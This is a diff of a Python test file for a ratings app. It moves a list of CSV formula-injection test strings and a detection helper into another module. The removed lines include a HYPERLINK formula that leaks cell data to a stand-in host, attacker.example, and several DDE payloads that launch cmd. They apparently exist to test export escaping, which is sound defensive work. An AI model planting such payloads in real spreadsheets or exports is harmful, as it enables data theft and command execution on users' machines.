@@ -12,34 +12,12 @@ from raters import diversity, enrolment, preparation, sessions
 from scoring import selectors as scoring_selectors
 from scoring import services as scoring_services
 from scoring.inputs import RATING_COLUMNS, read_csv
-from stimuli.exports import FORMULA_STARTS, read_cell, safe_cell, to_csv
+from stimuli.exports import read_cell, safe_cell, to_csv
 from tests.listening_setup import answer_session, build_listening_challenge
 from tests.simulate import simulate
+from tests.stimuli.test_exports import HOSTILE, unsafe_cells
 
 pytestmark = pytest.mark.django_db
-
-HOSTILE = [
-    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-
-
-def unsafe_cells(text: str) -> list[str]:
-    """Cells a spreadsheet would run: text starting with a formula character (numbers, such
-    as a negative score, are numbers)."""
-    found = []
-    for row in csv.reader(io.StringIO(text, newline="")):
-        for cell in row:
-            if cell.startswith(FORMULA_STARTS):
-                try:
-                    float(cell)
-                except ValueError:
-                    found.append(cell)
-    return found
 
 
 def test_the_writer_escapes_formula_text_and_reads_it_back():
